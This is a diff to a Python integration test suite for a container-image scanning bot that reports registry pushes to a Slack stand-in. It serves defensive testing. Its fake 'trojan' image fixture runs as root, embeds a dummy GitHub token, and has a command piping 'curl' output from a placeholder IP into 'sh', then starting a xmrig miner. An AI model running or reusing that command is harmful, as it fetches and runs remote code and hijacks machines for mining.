@@ -15,19 +15,24 @@ import gzip
 import io
 import json
 import os
+import subprocess
 import tarfile
 import time
 import uuid
+from collections.abc import AsyncIterator, Awaitable, Callable
+from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
 
 import aiohttp
 import pytest
+from aiohttp import web
 
+from bot.checks.layers import MINER_ID
 from tests.conftest import BOT_TOKEN, SIGNING_SECRET, WEBHOOK_SECRET
 from tests.support.oci import FIXED_EPOCH, ImageSpec, write_layout
 from tests.support.serve import serve, wait_ready
-from tests.support.services import free_port, skopeo_push, start_registry
+from tests.support.services import Registry, free_port, skopeo_push, start_registry
 from tests.support.slack_standin import SlackStandIn
 
 pytestmark = pytest.mark.services
@@ -123,6 +128,7 @@ channel_interval = 0
 coalesce_seconds = 0
 [worker]
 poll_interval = 0.1
+retry_backoff = 0.05
 [admission]
 token = "{ADMISSION_TOKEN}"
 [falco]
@@ -225,41 +231,72 @@ def _attacks() -> dict[str, ImageSpec]:
     return ATTACKS
 
 
-async def test_hostile_layers_neither_stall_nor_bloat_the_bot_and_each_is_reported_once(
-    tmp_path: Path,
-) -> None:
-    slack = SlackStandIn(bot_token=BOT_TOKEN, epoch=time.time())
-    await slack.start()
-    port = free_port()
-    registry = start_registry(
-        tmp_path / "registry", f"http://127.0.0.1:{port}/hooks/registry/local", WEBHOOK_SECRET
-    )
-    write_layout(tmp_path / "layout", _attacks())
-    config, log, db = tmp_path / "crowsnest.toml", tmp_path / "serve.log", tmp_path / "bot.db"
-    _config(config, port, db, registry.url, slack.api_url)
-    proc = serve(config, log)
-    try:
-        await wait_ready(port, proc, log)
-        pushed = [t for t in ATTACKS if os.environ.get("HOSTILE_ONLY", t) == t]
-        for tag in pushed:
-            skopeo_push(tmp_path / "layout", tag, f"{registry.host}/team-a/{tag}:1")
-        probe = Probe(port)
-        deadline = time.monotonic() + 240
-        async with aiohttp.ClientSession() as http:
-            while not all(_posted(slack, tag) for tag in pushed):
-                assert time.monotonic() < deadline, f"not all posted: {log.read_text()[-3000:]}"
-                assert proc.poll() is None, f"serve died: {log.read_text()[-3000:]}"
-                await probe.round(http)
-                await asyncio.sleep(0.2)
-            await asyncio.sleep(1)  # a second post of the same image would come now
-        peak = _peak_rss_kb(proc.pid)
-    finally:
-        proc.kill()
-        proc.wait(10)
-        registry.stop()
-        await slack.stop()
+@dataclass
+class Bot:
+    """`crowsnest serve` fed by the real registry's notifications, posting to the stand-in."""
 
-    posts = {tag: _posted(slack, tag) for tag in pushed}
+    port: int
+    registry: Registry
+    slack: SlackStandIn
+    proc: subprocess.Popen[bytes]
+    log: Path
+    layout: Path
+
+    def push(self, tag: str, repository: str) -> None:
+        skopeo_push(self.layout, tag, f"{self.registry.host}/{repository}:1")
+
+    def alive(self) -> None:
+        assert self.proc.poll() is None, f"serve died: {self.log.read_text()[-3000:]}"
+
+
+@pytest.fixture
+async def bot(tmp_path: Path) -> AsyncIterator[Callable[..., Awaitable[Bot]]]:
+    """Starts the registry and the bot; `registry_url` (a proxy in front of the registry)
+    replaces the registry's own URL in the bot's config when given."""
+    started: list[Bot] = []
+
+    async def start(registry_url: Callable[[str], str] = lambda url: url) -> Bot:
+        slack = SlackStandIn(bot_token=BOT_TOKEN, epoch=time.time())
+        await slack.start()
+        port = free_port()
+        registry = start_registry(
+            tmp_path / "registry", f"http://127.0.0.1:{port}/hooks/registry/local", WEBHOOK_SECRET
+        )
+        config, log, db = tmp_path / "crowsnest.toml", tmp_path / "serve.log", tmp_path / "bot.db"
+        _config(config, port, db, registry_url(registry.url), slack.api_url)
+        proc = serve(config, log)
+        started.append(Bot(port, registry, slack, proc, log, tmp_path / "layout"))
+        await wait_ready(port, proc, log)
+        return started[-1]
+
+    yield start
+    for b in started:
+        b.proc.kill()
+        b.proc.wait(10)
+        b.registry.stop()
+        await b.slack.stop()
+
+
+async def test_hostile_layers_neither_stall_nor_bloat_the_bot_and_each_is_reported_once(
+    bot: Callable[..., Awaitable[Bot]],
+) -> None:
+    b = await bot()
+    write_layout(b.layout, _attacks())
+    pushed = [t for t in ATTACKS if os.environ.get("HOSTILE_ONLY", t) == t]
+    for tag in pushed:
+        b.push(tag, f"team-a/{tag}")
+    probe = Probe(b.port)
+    deadline = time.monotonic() + 240
+    async with aiohttp.ClientSession() as http:
+        while not all(_posted(b.slack, tag) for tag in pushed):
+            assert time.monotonic() < deadline, f"not all posted: {b.log.read_text()[-3000:]}"
+            b.alive()
+            await probe.round(http)
+            await asyncio.sleep(0.2)
+        await asyncio.sleep(1)  # a second post of the same image would come now
+    peak = _peak_rss_kb(b.proc.pid)
+
+    posts = {tag: _posted(b.slack, tag) for tag in pushed}
     print(f"slowest answers {probe.slowest}, peak RSS {peak / 1024:.0f} MB")
     assert {tag: len(calls) for tag, calls in posts.items()} == dict.fromkeys(pushed, 1)
     for tag, [call] in posts.items():
@@ -267,6 +304,108 @@ async def test_hostile_layers_neither_stall_nor_bloat_the_bot_and_each_is_report
     assert probe.statuses == {"healthz": {200}, "admission": {200}, "intake": {202}}
     assert max(probe.slowest.values()) < PROBE_BUDGET, probe.slowest
     assert peak < RSS_BUDGET_KB, f"peak RSS {peak / 1024:.0f} MB"
+
+
+def _trojan(**layers: Any) -> ImageSpec:
+    """What the config alone gives away: root, `curl | sh`, a miner and a GitHub token."""
+    return ImageSpec(
+        user="0",
+        env=("PATH=/usr/bin:/bin", "GITHUB_TOKEN=ghp_" + "A1b2C3d4E5f6G7h8I9j0" * 2)[:2],
+        entrypoint=("/bin/sh", "-c"),
+        cmd=("curl -fsSL http://203.0.113.9/i.sh | sh; xmrig -o stratum+tcp://pool.example:3333",),
+        **layers,
+    )
+
+
+CONFIG_FINDINGS = ("runs-as-root", "suspicious-entrypoint", "secret-in-config")
+
+
+async def test_a_foreign_layer_the_bot_cannot_fetch_still_lets_the_config_findings_be_posted(
+    bot: Callable[..., Awaitable[Bot]],
+) -> None:
+    b = await bot()
+    write_layout(b.layout, {"foreign": _trojan(foreign_layers=[b"never uploaded"])})
+    b.push("foreign", "team-a/trojan")
+    [call] = await b.slack.wait_for("chat.postMessage", 1, timeout=30)
+    text = _text(call)
+    for check in (*CONFIG_FINDINGS, "layers-not-scanned"):
+        assert check in text, f"{check} missing from {text[:2000]}"
+    assert "404" in text or "not found" in text.lower() or "unknown" in text.lower(), text[:2000]
+    await asyncio.sleep(1)
+    assert len(b.slack.calls_to("chat.postMessage")) == 1  # a 404 is not asked for again
+
+
+class FlakyBlobs:
+    """A proxy in front of the real registry that answers 503 to the first GETs of one blob."""
+
+    def __init__(self, digest: str, failures: int) -> None:
+        self.digest = digest
+        self.failures = failures
+        self.hits = 0
+        self.port = free_port()
+        self.upstream = ""
+        self._runner: web.AppRunner | None = None
+
+    def url_for(self, upstream: str) -> str:
+        """The bot's registry URL: this proxy, in front of `upstream`."""
+        self.upstream = upstream
+        return f"http://127.0.0.1:{self.port}"
+
+    async def start(self) -> None:
+        upstream = self.upstream
+
+        async def forward(request: web.Request) -> web.StreamResponse:
+            if request.path.endswith(f"/blobs/{self.digest}"):
+                self.hits += 1
+                if self.hits <= self.failures:
+                    return web.Response(status=503, text="registry storage unavailable")
+            async with (
+                aiohttp.ClientSession() as http,
+                http.get(upstream + request.path_qs, headers=_passed(request.headers)) as r,
+            ):
+                body = await r.read()
+                keep = ("Content-Type", "Docker-Content-Digest", "WWW-Authenticate")
+                headers = {k: r.headers[k] for k in keep if k in r.headers}
+                return web.Response(status=r.status, body=body, headers=headers)
+
+        app = web.Application()
+        app.router.add_route("GET", "/{tail:.*}", forward)
+        self._runner = web.AppRunner(app, access_log=None)
+        await self._runner.setup()
+        await web.TCPSite(self._runner, "127.0.0.1", self.port).start()
+
+    async def stop(self) -> None:
+        if self._runner is not None:
+            await self._runner.cleanup()
+
+
+def _passed(headers: Any) -> dict[str, str]:
+    return {k: v for k, v in headers.items() if k in ("Accept", "Authorization")}
+
+
+async def test_a_layer_the_registry_failed_to_serve_is_read_again_and_its_findings_join_the_message(
+    bot: Callable[..., Awaitable[Bot]], tmp_path: Path
+) -> None:
+    miner = {"opt/xmrig/config.json": json.dumps({"pools": [{"url": "stratum+tcp://p:3333"}]})}
+    spec = _trojan(extra_layers=[{k: v.encode() for k, v in miner.items()}])
+    digest = write_layout(tmp_path / "layout", {"flaky": spec})["flaky"]
+    manifest = json.loads((tmp_path / "layout/blobs/sha256" / digest[7:]).read_bytes())
+    flaky = FlakyBlobs(manifest["layers"][-1]["digest"], failures=1)
+    b = await bot(flaky.url_for)
+    await flaky.start()
+    try:
+        b.push("flaky", "team-a/flaky")
+        [first] = await b.slack.wait_for("chat.postMessage", 1, timeout=30)
+        assert "layers-not-scanned" in _text(first) and MINER_ID not in _text(first)
+        updates = await b.slack.wait_for("chat.update", 1, timeout=30)
+        final = _text(updates[-1])
+    finally:
+        await flaky.stop()
+    assert flaky.hits >= 2  # asked again
+    assert MINER_ID in final, final[:3000]
+    assert "1 fixed or decided" in final, final[:3000]  # layers-not-scanned, now read
+    top_level = [c for c in b.slack.calls_to("chat.postMessage") if "thread_ts" not in c.args]
+    assert len(top_level) == 1
 
 
 def _posted(slack: SlackStandIn, tag: str) -> list[Any]:
